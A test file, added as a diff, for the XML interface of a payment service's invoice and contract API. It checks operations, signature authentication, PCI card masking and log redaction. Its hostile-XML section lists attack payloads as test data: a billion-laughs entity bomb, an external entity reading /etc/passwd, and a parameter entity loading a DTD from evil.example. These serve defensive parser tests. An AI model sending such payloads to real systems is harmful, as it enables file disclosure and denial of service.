@@ -1,0 +1,185 @@
+import { xmlSignature } from '@kassa/adapters-xml';
+import { XMLParser } from 'fast-xml-parser';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { dataOf, eventually, fresh, MERCHANT, OTHER, P, startTestKassa, type TestKassa } from './e2e.fixture.js';
+import { XML_SERVICE_PATH } from './xml-endpoints.js';
+
+// The XML 2.9 InvoiceManagementService over real HTTP, on the same domain as JSON v3.
+let t: TestKassa;
+beforeAll(async () => {
+  t = await startTestKassa();
+});
+afterAll(() => t.stop());
+
+const ip = '203.0.113.7';
+const nowUtc = (at = new Date()) => `${at.toISOString().slice(0, 19)}Z`;
+const parser = new XMLParser({ parseTagValue: false, processEntities: false });
+
+/** A signed `Request` with one operation element holding `body` (XML text) and the ProjectID. */
+function requestXml(operation: string, body: string, options: { projectId?: number; login?: string; password?: string; now?: string; signature?: string } = {}): string {
+  const login = options.login ?? MERCHANT.login;
+  const now = options.now ?? nowUtc();
+  const signature = options.signature ?? xmlSignature(options.password ?? MERCHANT.password, login, now);
+  return `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${login}</Login><NowUtc>${now}</NowUtc><Signature>${signature}</Signature></Authentication></Header><${operation}Request><ProjectID>${options.projectId ?? P.main}</ProjectID>${body}</${operation}Request></Request>`;
+}
+
+interface Answer {
+  status: number;
+  contentType: string | null;
+  text: string;
+  response: { ResultCode: string; ResultMessage: string } & Record<string, Record<string, unknown>>;
+}
+
+async function post(xml: string, options: { host?: 'api' | 'pci'; contentType?: string } = {}): Promise<Answer> {
+  const res = await fetch(`${t.kassa.urls[options.host ?? 'api']}${XML_SERVICE_PATH}`, { method: 'POST', headers: { 'content-type': options.contentType ?? 'text/xml; charset=utf-8' }, body: xml });
+  const text = await res.text();
+  const doc = parser.parse(text) as { Response: Answer['response'] };
+  return { status: res.status, contentType: res.headers.get('content-type'), text, response: doc.Response };
+}
+const call = (operation: string, body: string, options?: Parameters<typeof requestXml>[2]) => post(requestXml(operation, body, options));
+const phone = (msisdn: string) => `<MobilePhoneCustomer><MSISDN>${msisdn}</MSISDN></MobilePhoneCustomer>`;
+
+describe('XML 2.9 operations', () => {
+  it('CheckCustomerBillingSupport answers ResultCode 0 with the carrier', async () => {
+    const a = await call('CheckCustomerBillingSupport', phone('79001234567'));
+    expect([a.status, a.contentType, a.response.ResultCode]).toEqual([200, 'text/xml; charset=utf-8', '0']);
+    expect(a.response['CheckCustomerBillingSupportResponse']).toMatchObject({ IsSupported: 'true', Customer: { MobilePhoneCustomer: { MSISDN: '79001234567' } } });
+  });
+
+  it('a contract: created, two wrong PINs 240, the third 242, then the right PIN 242 too', async () => {
+    const { msisdn, mcid } = fresh();
+    const created = await call('CreateCustomerContract', `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`);
+    expect(created.response.ResultCode).toBe('0');
+    const id = String(created.response['CreateCustomerContractResponse']?.['ContractID']);
+    const codes = [];
+    for (const pin of ['1', '2', '3', '1234'])
+      codes.push((await call('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>${pin}</PinCode><ClientIP>${ip}</ClientIP>`)).response.ResultCode);
+    expect(codes).toEqual(['240', '240', '242', '242']);
+  });
+
+  it('an invoice created over XML is the same invoice over JSON (GET, refund), and the reverse', async () => {
+    const { msisdn, orderId, mcid } = fresh();
+    await call('CreateCustomerContract', `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`).then(async (c) => {
+      const id = String(c.response['CreateCustomerContractResponse']?.['ContractID']);
+      expect((await call('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).response.ResultCode).toBe('0');
+    });
+    const created = await call(
+      'CreateInvoice',
+      `<MerchantOrderID>${orderId}</MerchantOrderID><Price><Amount>25.50</Amount><Currency>RUB</Currency></Price>${phone(msisdn)}<Contract><MerchantContractID>${mcid}</MerchantContractID></Contract><ClientIP>${ip}</ClientIP>`,
+    );
+    expect(created.response.ResultCode).toBe('0');
+    const invoice = created.response['CreateInvoiceResponse'] as Record<string, unknown>;
+    expect(invoice).toMatchObject({
+      Status: 'Created',
+      MerchantOrderID: orderId,
+      Price: { Amount: '25.50', Currency: 'RUB' },
+      AuthorizationInfo: { AuthorizationType: 'BY_CONTRACT', IsAuthorized: 'true' },
+    });
+    const api = t.client();
+    const paid = await eventually(
+      () => api.getInvoice(P.main, String(invoice['InvoiceID'])),
+      (r) => r.ok && r.data.payment_status === 'PAID',
+    );
+    expect(dataOf(paid).merchant_order_id).toBe(orderId);
+    expect((await api.refundInvoice(P.main, String(invoice['InvoiceID']), { client_ip: ip })).status).toBe(202);
+    const overXml = await call('GetInvoice', `<InvoiceID>${String(invoice['InvoiceID'])}</InvoiceID>`);
+    expect(overXml.response['GetInvoiceResponse']).toMatchObject({ Status: 'Processed', PaymentStatus: 'PAID', MerchantOrderID: orderId });
+    const byOrder = await call('GetInvoiceByMerchantOrderId', `<MerchantOrderID>${orderId}</MerchantOrderID>`);
+    expect(byOrder.response['GetInvoiceByMerchantOrderIdResponse']?.['InvoiceID']).toBe(invoice['InvoiceID']);
+  });
+
+  it('a card invoice answers AuthorizationInfo with AuthorizationUrl and AuthorizationToken', async () => {
+    const { orderId } = fresh();
+    const card = `<UndefinedBankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${orderId}</MerchantCustomerID><Country>RU</Country></UndefinedBankCardCustomer>`;
+    const a = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID><Price><Amount>99.99</Amount><Currency>RUB</Currency></Price>${card}<ClientIP>${ip}</ClientIP>`);
+    const info = a.response['CreateInvoiceResponse']?.['AuthorizationInfo'] as Record<string, string>;
+    expect(info['AuthorizationType']).toBe('AUTH_PAGE');
+    expect(info['AuthorizationUrl']).toMatch(/^http/);
+    expect(info['AuthorizationToken']?.length).toBeGreaterThan(10);
+  });
+
+  it('card data: refused on the API host; on the PCI host only the last four digits come back, and no log line holds the number', async () => {
+    const { orderId } = fresh();
+    const pan = '4111111111111111';
+    const card = `<BankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${orderId}</MerchantCustomerID><Country>RU</Country><BankCard><PAN>${pan}</PAN><ExpirationMonth>12</ExpirationMonth><ExpirationYear>2030</ExpirationYear><SecurityCode>123</SecurityCode></BankCard></BankCardCustomer>`;
+    const contract = `<MerchantContractID>mc-${orderId}</MerchantContractID>${card}<ClientIP>${ip}</ClientIP>`;
+    const onApi = await call('CreateCustomerContract', contract);
+    expect([onApi.status, onApi.response.ResultCode]).toEqual([200, '100']);
+    expect(onApi.response.ResultMessage).toContain('PCI host');
+    const onPci = await post(requestXml('CreateCustomerContract', contract), { host: 'pci' });
+    expect(onPci.response.ResultCode).toBe('0');
+    expect(onPci.text).toContain('<Last4>1111</Last4>');
+    expect(onPci.text).not.toContain(pan);
+    expect((await post(requestXml('GetInvoice', '<InvoiceID>x</InvoiceID>'), { host: 'pci' })).response.ResultCode).toBe('404');
+    expect(t.logs.join('\n')).not.toContain(pan);
+  });
+
+  it('errors of the domain come back as ResultCodes with HTTP 200', async () => {
+    expect((await call('GetInvoice', '<InvoiceID>00000000-0000-4000-8000-000000000000</InvoiceID>')).response.ResultCode).toBe('201');
+    expect((await call('CancelCustomerContract', '<ContractID>nope</ContractID>')).response.ResultCode).toBe('232');
+    const missing = await call('CreateCustomerContract', `<MerchantContractID>x</MerchantContractID><ClientIP>${ip}</ClientIP>`);
+    expect([missing.status, missing.response.ResultCode]).toEqual([200, '100']);
+    expect((await call('NoSuchOperation', '')).response.ResultCode).toBe('404');
+  });
+});
+
+describe('XML 2.9 authentication', () => {
+  it('a bad signature (101) changes nothing; a drift beyond 20 minutes is 102; a foreign project 103', async () => {
+    const { msisdn, mcid } = fresh();
+    const body = `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`;
+    expect((await call('CreateCustomerContract', body, { signature: 'a'.repeat(64) })).response.ResultCode).toBe('101');
+    expect((await call('CreateCustomerContract', body, { password: 'wrong' })).response.ResultCode).toBe('101');
+    expect((await call('CreateCustomerContract', body, { now: nowUtc(new Date(Date.now() - 21 * 60_000)) })).response.ResultCode).toBe('102');
+    expect((await call('CreateCustomerContract', body, { now: '2026-02-30T10:00:00Z' })).response.ResultCode).toBe('102');
+    expect((await call('CreateCustomerContract', body, { projectId: P.other })).response.ResultCode).toBe('103');
+    expect((await call('CreateCustomerContract', body, { login: OTHER.login, password: OTHER.password })).response.ResultCode).toBe('103');
+    // None of them made the contract: the first real attempt creates it.
+    expect((await call('CreateCustomerContract', body)).response.ResultCode).toBe('0');
+  });
+});
+
+describe('hostile XML: refused with an XML answer and a ResultCode, never JSON, never a 5xx', () => {
+  const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><Request>&lol2;</Request>`;
+  const cases: [string, string, { contentType?: string }, number, string][] = [
+    ['billion laughs (DOCTYPE with entities)', billionLaughs, {}, 400, '11'],
+    ['an external entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Request>&x;</Request>', {}, 400, '11'],
+    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Request/>', {}, 400, '11'],
+    ['a doctype in lower case after a comment', '<!-- hi --><!doctype Request><Request/>', {}, 400, '11'],
+    ['truncated', '<Request><Header><Authentication><Login>x</Log', {}, 400, '12'],
+    ['wrong nesting', '<Request><A><B></A></B></Request>', {}, 400, '12'],
+    ['nesting beyond the limit', `<Request>${'<a>'.repeat(40)}${'</a>'.repeat(40)}</Request>`, {}, 400, '13'],
+    ['another root element', '<Envelope><Body/></Envelope>', {}, 400, '14'],
+    ['two root elements', '<Request/><Request/>', {}, 400, '14'],
+    ['JSON as XML', '{"a":1}', {}, 400, '12'],
+    ['a wrong content type', '<Request/>', { contentType: 'application/json' }, 415, '15'],
+  ];
+  it.each(cases)('%s', async (_name, body, options, status, code) => {
+    const a = await post(body, options);
+    expect([a.status, a.contentType, a.response.ResultCode]).toEqual([status, 'text/xml; charset=utf-8', code]);
+  });
+
+  it('a document over 64 KB is 413 with ResultCode 10; a repeated ProjectID is 100', async () => {
+    const huge = await post(requestXml('GetInvoice', `<InvoiceID>${'x'.repeat(70_000)}</InvoiceID>`));
+    expect([huge.status, huge.response.ResultCode]).toEqual([413, '10']);
+    const twice = await call('GetInvoice', `<ProjectID>${P.other}</ProjectID><InvoiceID>x</InvoiceID>`);
+    expect([twice.status, twice.response.ResultCode]).toEqual([200, '100']);
+    expect(twice.response.ResultMessage).toContain('ProjectID: expected once');
+  });
+
+  it('a value with markup characters is escaped in the answer; comments, CDATA and PIs do not confuse the reader', async () => {
+    const a = await call('GetInvoiceByMerchantOrderId', '<!-- c --><?pi x?><MerchantOrderID><![CDATA[a<b&c]]></MerchantOrderID>');
+    expect(a.response.ResultCode).toBe('201');
+    const b = await call('CancelCustomerContract', '<ContractID>&lt;x&gt;</ContractID>');
+    expect(b.response.ResultCode).toBe('232');
+    expect(t.kassa.urls.api).toBeTruthy();
+  });
+
+  it('no PIN, signature or password reaches the log', async () => {
+    const marker = 'Signature-7f3a9c';
+    await call('AuthorizeCustomerContract', '<ContractID>nope</ContractID><PinCode>9876</PinCode>', { signature: marker });
+    const logs = t.logs.join('\n');
+    expect(logs).not.toContain(marker);
+    expect(logs).not.toContain('<PinCode>');
+    expect(logs).not.toContain(MERCHANT.password);
+  });
+});
